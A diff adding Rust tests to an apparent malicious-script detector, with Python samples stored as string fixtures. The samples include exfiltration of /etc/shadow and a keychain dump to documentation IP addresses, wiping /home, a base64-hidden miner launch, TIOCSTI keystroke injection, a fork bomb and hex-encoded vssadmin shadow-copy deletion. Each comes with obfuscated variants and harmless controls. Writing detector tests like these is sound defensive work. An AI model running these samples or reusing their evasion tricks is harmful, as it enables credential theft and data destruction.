@@ -503,3 +503,190 @@ fn mail_fetch_part_in_a_constant() {
     let a = run(&headers);
     assert!(!rules(&a).contains(&"MB950"), "{:?}", a.findings);
 }
+
+const SHADOW_SENT: &str = r#"import socket
+def helper():
+    return "mkdir -p /node/root/.ssh && chroot /node sh -c 'cat /etc/shadow' > /node/tmp/o"
+s = socket.create_connection(("203.0.113.5", 80))
+s.send(helper().encode())
+"#;
+
+/// An f-string names a file as plainly as the literal does: its text,
+/// placeholders as written, is read like a literal's.
+#[test]
+fn fstring_text_is_read_like_a_literal() {
+    let templated = r#"import socket
+KEY = "x"
+def helper():
+    return f"echo '{KEY}' && chroot /node sh -c 'cat /etc/shadow' > /node/tmp/o"
+s = socket.create_connection(("203.0.113.5", 80))
+s.send(helper().encode())
+"#;
+    assert_same(SHADOW_SENT, templated);
+    // Control: an f-string naming nothing sensitive stays unflagged.
+    let harmless = r#"import socket
+KEY = "x"
+s = socket.create_connection(("203.0.113.5", 80))
+s.send(f"hello {KEY} from the report".encode())
+"#;
+    assert!(run(harmless).verdict < Verdict::High);
+}
+
+const WIPE_HOME: &str = r#"import shutil
+shutil.rmtree("/home", ignore_errors=True)
+"#;
+
+/// A table looked up by a key nothing in the script tells
+/// (`platform.system()`) may give any of its entries; a reversed string
+/// passed to a helper is its reversed value.
+#[test]
+fn table_entry_by_unknown_key_and_reversed_argument() {
+    let by_platform = r#"import shutil, platform
+ROOTS = {"Linux": "/home", "Darwin": "/Users"}
+def wipe(root):
+    shutil.rmtree(root, ignore_errors=True)
+wipe(ROOTS[platform.system()])
+"#;
+    let by_get = r#"import shutil, platform
+ROOTS = {"Linux": "emoh/", "Darwin": "sresU/"}
+def wipe(root):
+    shutil.rmtree(root, ignore_errors=True)
+wipe(ROOTS.get(platform.system(), "")[::-1])
+"#;
+    let reversed = r#"import shutil
+def wipe(root):
+    shutil.rmtree(root, ignore_errors=True)
+wipe("emoh/"[::-1])
+"#;
+    for respelled in [by_platform, by_get, reversed] {
+        assert_same(WIPE_HOME, respelled);
+    }
+    // Control: a table of the program's own cache directories, looked up
+    // the same way, names nothing the rule protects.
+    let own_caches = r#"import shutil, platform
+CACHES = {"Linux": "/tmp/myapp-cache", "Darwin": "/tmp/myapp-cache-mac"}
+shutil.rmtree(CACHES.get(platform.system(), "/tmp/myapp"), ignore_errors=True)
+"#;
+    assert!(run(own_caches).verdict < Verdict::High);
+}
+
+/// A key that is a helper's parameter is what each call passes, not any
+/// entry: `_b("ep")` is the pool address, and the command it builds still
+/// names the miner.
+#[test]
+fn parameter_key_is_what_the_call_passes() {
+    let miner = r#"import base64, subprocess
+CFG = {
+    "src": "aHR0cDovLzE5OC41MS4xMDAuNzcvdXBkYXRlL2FnZW50LmJpbg==",
+    "ep": "c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjMzMzM=",
+}
+def _b(k):
+    return base64.b64decode(CFG[k]).decode()
+def launch(binary, n):
+    args = ["kworker", "-o", _b("ep"), "--threads", str(n)]
+    return subprocess.Popen(args, executable=binary)
+launch("/tmp/x", 3)
+"#;
+    assert!(rules(&run(miner)).contains(&"MB905"));
+}
+
+/// An ioctl request named through `getattr` with a built name is the
+/// request it resolves to.
+#[test]
+fn ioctl_request_through_getattr() {
+    let plain = r#"import fcntl, termios
+fd = open("/dev/tty")
+for ch in "id\n":
+    fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
+"#;
+    let respelled = r#"import fcntl, termios
+fd = open("/dev/tty")
+op = getattr(termios, "TIOC" + "STI")
+for ch in "id\n":
+    fcntl.ioctl(fd, op, ch.encode())
+"#;
+    assert_same(plain, respelled);
+    // Control: another terminal request, spelled the same way.
+    let winsize = r#"import fcntl, termios
+fd = open("/dev/tty")
+op = getattr(termios, "TIOC" + "GWINSZ")
+print(fcntl.ioctl(fd, op, b"\0" * 8))
+"#;
+    assert!(!rules(&run(winsize)).contains(&"MB919"));
+}
+
+/// A wait in the `except` of a fork loop runs only when fork fails: the
+/// loop is still a bomb. A wait in the loop's own body is a worker pool.
+#[test]
+fn fork_loop_waiting_only_on_failure() {
+    let plain = r#"import os
+while True:
+    os.fork()
+"#;
+    let respelled = r#"import os, time
+spawn = getattr(os, "fo" + "rk")
+while True:
+    try:
+        spawn()
+    except OSError:
+        time.sleep(0.01)
+"#;
+    assert_same(plain, respelled);
+    let throttled = r#"import os, time
+while True:
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    os.waitpid(pid, 0)
+    time.sleep(1)
+"#;
+    assert!(!rules(&run(throttled)).contains(&"MB902"));
+}
+
+/// Commands kept hex-encoded and decoded in a loop are the commands.
+#[test]
+fn hex_encoded_commands_decoded_in_a_loop() {
+    let plain = r#"import subprocess
+subprocess.run("vssadmin delete shadows /all /quiet", shell=True)
+"#;
+    let hexed = r#"import subprocess
+STEPS = ("76737361646d696e2064656c65746520736861646f7773202f616c6c202f7175696574",)
+for enc in STEPS:
+    cmd = bytes.fromhex(enc).decode()
+    subprocess.run(cmd, shell=True)
+"#;
+    assert_same(plain, hexed);
+    // Control: `echo hello`, hex-encoded the same way.
+    let echo = r#"import subprocess
+for enc in ("6563686f2068656c6c6f",):
+    subprocess.run(bytes.fromhex(enc).decode(), shell=True)
+"#;
+    assert!(run(echo).verdict < Verdict::High);
+}
+
+/// A command run through a helper that takes its argument list (`def
+/// _run(args): subprocess.run(args)`) is each list a caller passes: a
+/// keychain dump sent away is the same whether run directly or so.
+#[test]
+fn command_run_through_a_helper_parameter() {
+    let plain = r#"import subprocess, urllib.request
+res = subprocess.run(["security", "dump-keychain", "-d"], capture_output=True, text=True)
+urllib.request.urlopen("https://203.0.113.7/r", data=res.stdout.encode())
+"#;
+    let helper = r#"import subprocess, urllib.request
+def _run(args, **kw):
+    return subprocess.run(args, capture_output=True, text=True, **kw)
+def dump():
+    return _run(["security", "dump-keychain", "-d"]).stdout
+urllib.request.urlopen("https://203.0.113.7/r", data=dump().encode())
+"#;
+    assert_same(plain, helper);
+    assert_eq!(run(helper).verdict, Verdict::Blocked);
+    // Control: the same helper asked for the program's own token by name.
+    let own = r#"import subprocess
+def _run(args, **kw):
+    return subprocess.run(args, capture_output=True, text=True, **kw)
+print(_run(["security", "find-generic-password", "-s", "myapp", "-w"]).stdout)
+"#;
+    assert!(run(own).verdict < Verdict::High);
+}
